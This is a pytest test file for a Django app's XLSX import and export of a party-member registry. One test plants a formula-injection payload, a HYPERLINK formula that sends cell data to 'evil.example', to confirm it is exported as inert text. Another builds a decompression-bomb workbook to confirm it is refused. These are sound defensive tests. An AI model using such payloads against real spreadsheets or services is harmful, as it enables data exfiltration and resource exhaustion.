"""Member import and export as XLSX (R01): the registry of party members filled from and read into Excel.

Workbooks are built in memory with openpyxl. Messages are checked in English (the source language) so the
assertions hold whatever the Vietnamese catalogue says; the column headers they name are file data.
"""

import datetime as dt
import io
import unicodedata

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation

from nghiquyet.orgs import services, xlsx
from nghiquyet.orgs.models import Education, Gender, OrgKind, Person, Theory
from nghiquyet.orgs.tests.factories import OrganizationFactory, PersonFactory

pytestmark = pytest.mark.django_db

HEADERS = [c.header for c in xlsx.COLUMNS]


@pytest.fixture
def english(client, settings):
    """Pages in English, the source language: chosen with the language cookie, as the switch in the top
    bar does (the browser's Accept-Language does not change the web UI's language)."""
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"


def row(**values) -> list:
    """A valid data row in column order, with some cells replaced."""
    base = {
        "full_name": "Phạm Minh Châu",
        "gender": "Nữ",
        "birth_date": "12/04/1988",
        "party_entry_date": "03/02/2012",
        "full_membership_date": "03/02/2013",
        "workplace": "Phòng Bổ trợ tư pháp",
        "job_title": "Chuyên viên",
        "education": "Thạc sĩ",
        "theory": "Trung cấp",
        "cell": "G1C1",
        "email": "chau.pm@example.vn",
    }
    base.update(values)
    return [base[c.field] for c in xlsx.COLUMNS]


def upload(*rows, headers=HEADERS, name="dang-vien.xlsx") -> SimpleUploadedFile:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(headers)
    for values in rows:
        sheet.append(values)
    return SimpleUploadedFile(name, xlsx.workbook_bytes(workbook), content_type=xlsx.CONTENT_TYPE)


def run_import(world, *rows, org=None, **kw):
    with translation.override("en"):
        result = services.import_members(org or world.g1, upload(*rows, **kw), world.secretary)
        return result, [str(p) for p in result.errors]


def names(qs=None) -> set[str]:
    return set((qs or Person.objects.all()).values_list("full_name", flat=True))


# The happy path -----------------------------------------------------------------------------------


def test_r01_import_valid_file_creates_members(world):
    before = Person.objects.count()
    result, errors = run_import(
        world,
        row(),
        # No diacritics, odd case, an Excel date cell, d/m/yyyy and ISO dates, a lower-case code.
        row(
            full_name="Vũ Đức Thắng",
            gender="nam",
            birth_date=dt.datetime(1979, 11, 2),  # noqa: DTZ001 (an Excel date cell is naive)
            party_entry_date="5/3/2003",
            full_membership_date="2004-03-05",
            education="TIEN SI",
            theory="cao cap",
            cell="g1p1c1",
            email="",
        ),
        row(full_name="Lý Thị Hoa", education="", theory="", workplace="", job_title=""),
    )
    assert errors == []
    assert result.created == 3
    assert Person.objects.count() == before + 3

    chau = Person.objects.get(full_name="Phạm Minh Châu")
    assert chau.gender == Gender.FEMALE
    assert chau.birth_date == dt.date(1988, 4, 12)
    assert chau.party_entry_date == dt.date(2012, 2, 3)
    assert chau.full_membership_date == dt.date(2013, 2, 3)
    assert (chau.workplace, chau.job_title, chau.email) == (
        "Phòng Bổ trợ tư pháp",
        "Chuyên viên",
        "chau.pm@example.vn",
    )
    assert (chau.education, chau.theory, chau.home_org) == (Education.MASTER, Theory.INTERMEDIATE, world.c1)
    assert chau.name_search == "pham minh chau"
    assert chau.sort_key

    thang = Person.objects.get(full_name="Vũ Đức Thắng")
    assert thang.gender == Gender.MALE
    assert (thang.birth_date, thang.party_entry_date, thang.full_membership_date) == (
        dt.date(1979, 11, 2),
        dt.date(2003, 3, 5),
        dt.date(2004, 3, 5),
    )
    assert (thang.education, thang.theory, thang.home_org) == (Education.DOCTORATE, Theory.ADVANCED, world.c2)

    # Empty levels take the model's defaults.
    hoa = Person.objects.get(full_name="Lý Thị Hoa")
    assert (hoa.education, hoa.theory) == (Education.UNIVERSITY, Theory.NONE)


def test_r01_import_records_history_by_the_importer(world):
    run_import(world, row())
    person = Person.objects.get(full_name="Phạm Minh Châu")
    record = person.history.get()
    assert record.history_type == "+"
    assert record.history_user == world.secretary
    assert record.history_change_reason == "XLSX import dang-vien.xlsx"


def test_r01_import_stores_names_in_nfc(world):
    decomposed = unicodedata.normalize("NFD", "Nguyễn  Thị Ánh")
    _result, errors = run_import(world, row(full_name=decomposed))
    assert errors == []
    assert Person.objects.filter(full_name="Nguyễn Thị Ánh").exists()


def test_r01_import_skips_empty_rows_and_keeps_excel_row_numbers(world):
    _result, errors = run_import(world, row(), [None] * len(HEADERS), row(full_name="Lò Văn Páo", gender="X"))
    assert errors == ["Row 4, column “Giới tính”: “X” is not one of: Nam, Nữ."]


def test_r01_import_reads_headers_by_name_in_any_order_and_spelling(world):
    order = list(reversed(range(len(HEADERS))))
    headers = [HEADERS[i].rstrip("*").upper() for i in order]
    headers[0] = "email "
    values = row()
    result, errors = run_import(world, [values[i] for i in order], headers=headers)
    assert errors == []
    assert result.created == 1


def test_r01_import_warns_about_admission_under_eighteen(world):
    result, errors = run_import(
        world, row(birth_date="01/06/2000", party_entry_date="01/01/2017", full_membership_date="")
    )
    assert errors == []
    assert result.created == 1
    with translation.override("en"):
        assert [str(w) for w in result.warnings] == [
            "Row 2, column “Ngày vào Đảng”: Admitted at the age of 16, under 18; please check the dates."
        ]


# One bad row imports nothing ----------------------------------------------------------------------


def test_r01_one_bad_row_among_good_ones_imports_nothing(world):
    before = Person.objects.count()
    result, errors = run_import(
        world,
        row(full_name="Người Một"),
        row(full_name="Người Hai"),
        row(full_name="Người Ba"),
        row(full_name="Người Bốn", birth_date="31/02/1980"),
        row(full_name="Người Năm"),
    )
    assert Person.objects.count() == before
    assert result.created == 0
    assert errors == ["Row 5, column “Ngày sinh”: “31/02/1980” is not a valid date (dd/mm/yyyy)."]


def future() -> str:
    return (timezone.localdate() + dt.timedelta(days=3)).strftime("%d/%m/%Y")


@pytest.mark.parametrize(
    "values,column,fragment",
    [
        ({"full_name": ""}, "Họ và tên", "This field is required."),
        ({"full_name": "  "}, "Họ và tên", "This field is required."),
        ({"gender": ""}, "Giới tính", "This field is required."),
        ({"gender": "Male?"}, "Giới tính", "“Male?” is not one of: Nam, Nữ."),
        ({"birth_date": "1980"}, "Ngày sinh", "“1980” is not a valid date (dd/mm/yyyy)."),
        ({"birth_date": "17/5/80"}, "Ngày sinh", "“17/5/80” is not a valid date (dd/mm/yyyy)."),
        ({"birth_date": "future"}, "Ngày sinh", "is in the future."),
        ({"full_membership_date": "future"}, "Ngày chính thức", "is in the future."),
        (
            {"birth_date": "03/02/2012"},
            "Ngày vào Đảng",
            "The admission date must be after the date of birth.",
        ),
        (
            {"full_membership_date": "02/02/2012"},
            "Ngày chính thức",
            "Full membership cannot come before admission.",
        ),
        (
            {"education": "Cử nhân"},
            "Trình độ chuyên môn",
            "“Cử nhân” is not one of: Tiến sĩ, Thạc sĩ, Đại học, Cao đẳng, Trung cấp, Chưa qua đào tạo.",
        ),
        (
            {"theory": "Đại học"},
            "Lý luận chính trị",
            "“Đại học” is not one of: Cử nhân, Cao cấp, Trung cấp, Sơ cấp, Chưa qua đào tạo.",
        ),
        ({"cell": ""}, "Mã chi bộ", "This field is required."),
        (
            {"cell": "XYZ9"},
            "Mã chi bộ",
            "There is no organization with code “XYZ9” under Đảng bộ Sở Tư pháp.",
        ),
        # Another grassroots organization's cell reads exactly like an unknown code.
        ({"cell": "G2"}, "Mã chi bộ", "There is no organization with code “G2” under Đảng bộ Sở Tư pháp."),
        (
            {"cell": "G1P1"},
            "Mã chi bộ",
            "“G1P1” is partial party committee, not a party cell; members are registered in party cells.",
        ),
        ({"email": "not-an-address"}, "Email", "Enter a valid email address."),
    ],
)
def test_r01_row_validation_rule(world, values, column, fragment):
    values = {k: future() if v == "future" else v for k, v in values.items()}
    before = Person.objects.count()
    _result, errors = run_import(world, row(full_name="Hà Thị Good"), row(**values))
    assert Person.objects.count() == before
    assert len(errors) == 1, errors
    assert errors[0].startswith(f"Row 3, column “{column}”: ")
    assert fragment in errors[0]


def test_r01_duplicate_person_in_the_file(world):
    result, errors = run_import(
        world,
        row(),
        row(full_name="Trịnh Văn Khác"),
        row(full_name="PHẠM MINH CHÂU", cell="G1P1C1"),
        row(full_name="Phạm Minh Châu", birth_date="13/04/1988"),  # another birth date: another person
    )
    assert errors == ["Row 4, column “Họ và tên”: “PHẠM MINH CHÂU”, born 12/04/1988, is already on row 2."]
    assert result.created == 0


def test_r01_duplicate_person_without_birth_date_in_the_file(world):
    _result, errors = run_import(world, row(birth_date=""), row(birth_date=""))
    assert errors == [
        "Row 3, column “Họ và tên”: “Phạm Minh Châu”, with no date of birth, is already on row 2."
    ]


def test_r01_person_already_registered_in_the_cell(world):
    member = world.people.member  # Đặng Văn Hùng, born 17/05/1980, in G1C1
    _result, errors = run_import(world, row(full_name="Đặng Văn Hùng", birth_date="17/05/1980"))
    assert errors == [
        "Row 2, column “Họ và tên”: “Đặng Văn Hùng”, born 17/05/1980, is already registered in party cell G1C1."
    ]
    # The same person in another cell is a different registration, so it is not refused.
    _result, errors = run_import(
        world, row(full_name=member.full_name, birth_date="17/05/1980", cell="G1P1C1")
    )
    assert errors == []


def test_r01_reimporting_the_same_file_imports_nothing_twice(world):
    rows = [row(full_name="Tạ Quang Bửu"), row(full_name="Hồ Xuân Hương", cell="G1P1C1")]
    assert run_import(world, *rows)[0].created == 2
    result, errors = run_import(world, *rows)
    assert result.created == 0
    assert len(errors) == 2


def test_r01_errors_of_all_rows_are_listed_in_row_order(world):
    result, _errors = run_import(
        world,
        row(),
        row(),  # a duplicate, found after the per-row checks but listed in its place
        row(full_name="Bùi Văn Tư", gender="?"),
        row(full_name="Bùi Văn Năm", birth_date="x", cell="nope"),
    )
    assert [(p.row, p.column) for p in result.errors] == [
        (3, "Họ và tên"),
        (4, "Giới tính"),
        (5, "Ngày sinh"),
        (5, "Mã chi bộ"),
    ]


# File-level errors --------------------------------------------------------------------------------


def file_errors(world, uploaded) -> list[str]:
    before = Person.objects.count()
    with translation.override("en"):
        result = services.import_members(world.g1, uploaded, world.secretary)
        messages = [str(p) for p in result.errors]
    assert Person.objects.count() == before
    assert all(p.row is None for p in result.errors)
    return messages


def test_r01_file_that_is_not_a_workbook(world):
    messages = file_errors(world, SimpleUploadedFile("members.xlsx", b"Ho va ten;Gioi tinh\n"))
    assert messages == [
        "The file is not an Excel workbook (.xlsx) or it is damaged. An old .xls file must first be saved as "
        ".xlsx in Excel."
    ]


def test_r01_damaged_workbook(world):
    content = upload(row()).read()
    messages = file_errors(world, SimpleUploadedFile("members.xlsx", content[: len(content) // 2]))
    assert len(messages) == 1
    assert messages[0].startswith("The file is not an Excel workbook (.xlsx) or it is damaged.")


def test_r01_zip_that_is_not_a_workbook(world):
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "hello")
    messages = file_errors(world, SimpleUploadedFile("members.xlsx", buffer.getvalue()))
    assert messages[0].startswith("The file is not an Excel workbook (.xlsx)")


def test_r01_wrong_headers_name_the_missing_ones(world):
    headers = [h for h in HEADERS if h not in ("Ngày sinh", "Mã chi bộ*")] + ["Ngay sinh nhat"]
    messages = file_errors(world, upload(["x"] * len(headers), headers=headers))
    assert messages == [
        "The header row (row 1) has no column “Ngày sinh”. Start from the template.",
        "The header row (row 1) has no column “Mã chi bộ”. Start from the template.",
    ]


def test_r01_too_many_rows(world, monkeypatch):
    monkeypatch.setattr(xlsx, "MAX_ROWS", 3)
    rows = [row(full_name=f"Người Số {i}") for i in range(4)]
    messages = file_errors(world, upload(*rows))
    assert messages == ["The file holds more than 3 members. Split it into several files."]
    assert run_import(world, *rows[:3])[0].created == 3


def test_r01_row_limit_is_twenty_thousand(world):
    assert xlsx.MAX_ROWS == 20_000
    assert xlsx.MAX_BYTES == 5 * 1024 * 1024


def test_r01_file_over_five_megabytes(world):
    big = SimpleUploadedFile("members.xlsx", b"\0" * (5 * 1024 * 1024 + 1))
    assert file_errors(world, big) == ["The file is larger than 5 MB. Split it into several files."]


def test_r01_file_with_no_members(world):
    messages = file_errors(world, upload())
    assert messages == ["The file holds no members: fill in one member per row from row 2 on."]


# Lookups do not grow with the file ----------------------------------------------------------------


def import_queries(world, count: int, prefix: str) -> int:
    rows = [row(full_name=f"{prefix} Văn Số {i}", cell="G1C1" if i % 2 else "G1P1C1") for i in range(count)]
    uploaded = upload(*rows)
    with CaptureQueriesContext(connection) as ctx:
        result = services.import_members(world.g1, uploaded, world.secretary)
    assert result.created == count
    return len(ctx.captured_queries)


def test_r01_import_query_count_does_not_grow_per_row(world):
    # subtree orgs (1) + registered (name, birth) in the cells (1) + savepoint/insert/history insert;
    # 40 rows stay within one insert batch on SQLite, so the totals must match exactly.
    assert import_queries(world, 4, "Trần") == import_queries(world, 40, "Lê")


# Views and access ---------------------------------------------------------------------------------


def test_r01_outsider_gets_404_on_import_and_export(world, client_for):
    client = client_for(world.outsider)
    assert client.get(reverse("orgs:import", args=["G1"])).status_code == 404
    assert client.post(reverse("orgs:import", args=["G1"]), {"file": upload(row())}).status_code == 404
    assert client.get(reverse("orgs:export", args=["G1"])).status_code == 404
    assert not Person.objects.filter(full_name="Phạm Minh Châu").exists()


def test_r01_plain_member_cannot_import(world, client_for):
    client = client_for(world.member)
    assert client.get(reverse("orgs:import", args=["G1"])).status_code == 404
    assert client.post(reverse("orgs:import", args=["G1"]), {"file": upload(row())}).status_code == 404
    assert client.get(reverse("orgs:export", args=["G1"])).status_code == 404


def test_r01_committee_member_exports_but_cannot_import(world, client_for):
    client = client_for(world.committee_member)
    assert client.get(reverse("orgs:import", args=["G1"])).status_code == 404
    assert client.get(reverse("orgs:export", args=["G1"])).status_code == 200


def test_r01_anonymous_is_sent_to_login(client, world):
    for name in ("orgs:import", "orgs:export"):
        response = client.get(reverse(name, args=["G1"]))
        assert response.status_code == 302
        assert reverse("login") in response["Location"]
    assert client.get(reverse("orgs:import_template")).status_code == 302


def test_r01_secretary_sees_the_import_form(world, client_for, english):
    response = client_for(world.secretary).get(reverse("orgs:import", args=["G1"]))
    assert response.status_code == 200
    page = response.content.decode()
    assert 'enctype="multipart/form-data"' in page
    assert reverse("orgs:import_template") in page
    assert "Mã chi bộ*" in page and "G1P1C1" in page
    assert "htmx-indicator" in page
    assert "At most 20,000 rows and 5 MB per file." in page
    assert "G2" not in [code for code, _name in response.context["cells"]]


def test_r01_secretary_imports_through_the_page(world, client_for, english):
    client = client_for(world.secretary)
    response = client.post(
        reverse("orgs:import", args=["G1"]),
        {"file": upload(row(), row(full_name="Đỗ Thị Hằng", cell="G1P1C1"))},
        follow=True,
    )
    assert response.redirect_chain == [(reverse("orgs:org", args=["G1"]), 302)]
    assert "Imported 2 party members." in response.content.decode()
    assert {"Phạm Minh Châu", "Đỗ Thị Hằng"} <= names()


def test_r01_htmx_import_redirects_the_whole_page(world, client_for):
    response = client_for(world.secretary).post(
        reverse("orgs:import", args=["G1"]), {"file": upload(row())}, HTTP_HX_REQUEST="true"
    )
    assert response.status_code == 200
    assert response["HX-Redirect"] == reverse("orgs:org", args=["G1"])


def test_r01_import_page_lists_the_errors(world, client_for, english):
    before = Person.objects.count()
    response = client_for(world.secretary).post(
        reverse("orgs:import", args=["G1"]),
        {"file": upload(row(), row(), row(full_name="Mai Văn Tám", birth_date="31/02/1980"))},
    )
    assert response.status_code == 200
    assert Person.objects.count() == before
    assert [(p.row, p.column) for p in response.context["errors"]] == [(3, "Họ và tên"), (4, "Ngày sinh")]
    page = response.content.decode()
    assert "2 problems found; nothing was imported." in page
    assert (
        '<td class="num">4</td><td>Ngày sinh</td><td>“31/02/1980” is not a valid date (dd/mm/yyyy).</td>'
        in page
    )


def test_r01_import_page_shows_file_errors_and_missing_file(world, client_for, english):
    client = client_for(world.secretary)
    url = reverse("orgs:import", args=["G1"])
    response = client.post(url, {"file": SimpleUploadedFile("a.xlsx", b"not a zip")})
    assert "The file is not an Excel workbook (.xlsx)" in response.content.decode()
    response = client.post(url, {})
    assert response.status_code == 200
    assert response.context["form"].errors["file"]


# Template -----------------------------------------------------------------------------------------


def test_r01_template_download_has_headers_lists_and_instructions(world, client_for):
    response = client_for(world.member).get(reverse("orgs:import_template"))
    assert response.status_code == 200
    assert response["Content-Type"] == xlsx.CONTENT_TYPE
    assert 'filename="mau-nhap-dang-vien.xlsx"' in response["Content-Disposition"]
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Đảng viên", "Hướng dẫn"]
    sheet = workbook["Đảng viên"]
    assert [c.value for c in sheet[1]] == [
        "Họ và tên*",
        "Giới tính*",
        "Ngày sinh",
        "Ngày vào Đảng",
        "Ngày chính thức",
        "Nơi công tác",
        "Chức vụ",
        "Trình độ chuyên môn",
        "Lý luận chính trị",
        "Mã chi bộ*",
        "Email",
    ]
    assert all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width == 28
    assert sheet.max_row == 1  # no example in the data sheet
    lists = {str(v.sqref).split(":")[0]: v.formula1 for v in sheet.data_validations.dataValidation}
    assert lists == {
        "B2": '"Nam,Nữ"',
        "H2": '"Tiến sĩ,Thạc sĩ,Đại học,Cao đẳng,Trung cấp,Chưa qua đào tạo"',
        "I2": '"Cử nhân,Cao cấp,Trung cấp,Sơ cấp,Chưa qua đào tạo"',
    }
    guide = [r[0] for r in workbook["Hướng dẫn"].iter_rows(values_only=True)]
    assert all(c.label in guide for c in xlsx.COLUMNS)


def test_r01_untouched_template_imports_nothing(world):
    content = xlsx.workbook_bytes(xlsx.template_workbook())
    messages = file_errors(world, SimpleUploadedFile("mau.xlsx", content))
    assert messages == ["The file holds no members: fill in one member per row from row 2 on."]


def test_r01_example_row_of_the_instructions_imports(world):
    """The example row of the instructions sheet, copied into the data sheet, is a valid row."""
    guide = openpyxl.load_workbook(io.BytesIO(xlsx.workbook_bytes(xlsx.template_workbook())))["Hướng dẫn"]
    example = [c.value for c in list(guide.iter_rows())[-1]]
    example[HEADERS.index("Mã chi bộ*")] = "G1C1"
    result, errors = run_import(world, example)
    assert errors == []
    assert result.created == 1


# Export -------------------------------------------------------------------------------------------


def test_r01_export_lists_the_subtree_in_name_order(world, client_for):
    response = client_for(world.committee_member).get(reverse("orgs:export", args=["G1"]))
    assert response["Content-Type"] == xlsx.CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="dang-vien-G1.xlsx"'
    rows = xlsx.read_members(io.BytesIO(response.content))
    # By given name: Bình, Hùng, Lan; nobody from G2 or the bloc office.
    assert [r.values["full_name"] for r in rows] == ["Nguyễn Văn Bình", "Đặng Văn Hùng", "Trần Thị Lan"]
    assert [r.number for r in rows] == [2, 3, 4]


def test_r01_export_reads_back_identical_values(world, client_for):
    PersonFactory(
        full_name="Ngô Thị Xuân",
        gender=Gender.FEMALE,
        birth_date=dt.date(1990, 1, 31),
        party_entry_date=dt.date(2015, 12, 1),
        full_membership_date=None,
        workplace="Trung tâm Trợ giúp pháp lý",
        job_title="",
        education=Education.COLLEGE,
        theory=Theory.BACHELOR,
        email="xuan@example.vn",
        home_org=world.c2,
    )
    response = client_for(world.secretary).get(reverse("orgs:export", args=["G1"]))
    rows = {r.values["full_name"]: r.values for r in xlsx.read_members(io.BytesIO(response.content))}
    assert rows["Ngô Thị Xuân"] == {
        "full_name": "Ngô Thị Xuân",
        "gender": "Nữ",
        "birth_date": dt.date(1990, 1, 31),
        "party_entry_date": dt.date(2015, 12, 1),
        "full_membership_date": "",
        "workplace": "Trung tâm Trợ giúp pháp lý",
        "job_title": "",
        "education": "Cao đẳng",
        "theory": "Cử nhân",
        "cell": "G1P1C1",
        "email": "xuan@example.vn",
    }
    for person in Person.objects.in_subtree(world.g1).select_related("home_org"):
        assert [rows[person.full_name][c.field] or None for c in xlsx.COLUMNS] == [
            v or None for v in xlsx.person_row(person)
        ]


FIELDS = [
    "full_name",
    "gender",
    "birth_date",
    "party_entry_date",
    "full_membership_date",
    "workplace",
    "job_title",
    "education",
    "theory",
    "home_org_id",
    "email",
]


def test_r01_export_then_import_restores_the_members(world, client_for):
    cell = OrganizationFactory(code="G1C9", name="Chi bộ Mới", kind=OrgKind.SUBORDINATE_CELL, parent=world.g1)
    for name, education, theory in [
        ("Kiều Văn Mạnh", Education.VOCATIONAL, Theory.ELEMENTARY),
        ("Âu Thị Ngọc", Education.NONE, Theory.NONE),
        ("Ông Văn Ích", Education.DOCTORATE, Theory.ADVANCED),
    ]:
        PersonFactory(full_name=name, home_org=cell, education=education, theory=theory, email="")
    original = list(Person.objects.filter(home_org=cell).order_by("full_name").values(*FIELDS))
    exported = client_for(world.secretary).get(reverse("orgs:export", args=["G1C9"])).content

    Person.objects.filter(home_org=cell).delete()
    with translation.override("en"):
        result = services.import_members(world.g1, SimpleUploadedFile("x.xlsx", exported), world.secretary)
    assert [str(p) for p in result.errors] == []
    assert result.created == 3
    assert list(Person.objects.filter(home_org=cell).order_by("full_name").values(*FIELDS)) == original


def export_queries(client, world, count: int) -> int:
    Person.objects.filter(full_name__startswith="Thành Viên").delete()
    for i in range(count):
        PersonFactory(full_name=f"Thành Viên {i}", home_org=world.c2 if i % 2 else world.c1)
    with CaptureQueriesContext(connection) as ctx:
        response = client.get(reverse("orgs:export", args=["G1"]))
    assert len(xlsx.read_members(io.BytesIO(response.content))) == count + 3
    return len(ctx.captured_queries)


def test_r01_export_query_count_is_constant(world, client_for):
    client = client_for(world.secretary)
    # session, user, scope (person, body staff, committee seats), the organization, the members.
    assert export_queries(client, world, 5) == export_queries(client, world, 50)


def test_r01_imported_text_is_exported_as_text_never_as_a_formula(world, client_for):
    """#17.4: the member export wrote `=HYPERLINK(...)` and `=1+2` from imported text as live formulas."""
    from openpyxl import load_workbook

    link = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    PersonFactory(full_name="Ngô Văn Công", workplace=link, job_title="=1+2", email="", home_org=world.c2)
    PersonFactory(full_name="Lý Thị Dung", workplace="+84 24 3825", job_title="@SUM(A1)", home_org=world.c2)
    response = client_for(world.secretary).get(reverse("orgs:export", args=["G1"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
    for text in (link, "=1+2", "+84 24 3825", "@SUM(A1)"):
        assert cells[text].data_type == "s", text
        assert cells[text].quotePrefix, text
    # Read back, they are the same text (an export can be imported again).
    rows = {r.values["full_name"]: r.values for r in xlsx.read_members(io.BytesIO(response.content))}
    assert rows["Ngô Văn Công"]["workplace"] == link and rows["Ngô Văn Công"]["job_title"] == "=1+2"


def test_r01_a_small_file_expanding_to_a_huge_one_is_refused_before_it_is_read(world):
    """#17.3: 0.2 MB holding one 200 MB string cell cost 300 MB and 1.5 s; the expanded size is checked
    from the archive's directory first (here 45 MB of shared strings, compressed to a few dozen KB)."""
    import zipfile

    buffer = io.BytesIO(upload(row()).read())
    with zipfile.ZipFile(buffer, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/padding.xml", b"<x>" + b"A" * (45 * 1024 * 1024) + b"</x>")
    file = SimpleUploadedFile("dang-vien.xlsx", buffer.getvalue(), content_type=xlsx.CONTENT_TYPE)
    assert file.size < xlsx.MAX_BYTES // 10
    before = Person.objects.count()
    messages = file_errors(world, file)
    assert messages == [
        "The workbook expands to more than 40 MB when opened: it holds far more than members' data."
    ]
    assert Person.objects.count() == before


def test_r01_a_cell_longer_than_a_member_field_is_refused_naming_row_and_column(world):
    before = Person.objects.count()
    _result, errors = run_import(world, row(), row(full_name="Lê Văn Bảy", job_title="x" * 5000))
    assert errors == ["Row 3, column “Chức vụ”: 5,000 characters, more than the 500 a cell may hold."]
    assert Person.objects.count() == before  # nothing imported: the file is refused as a whole
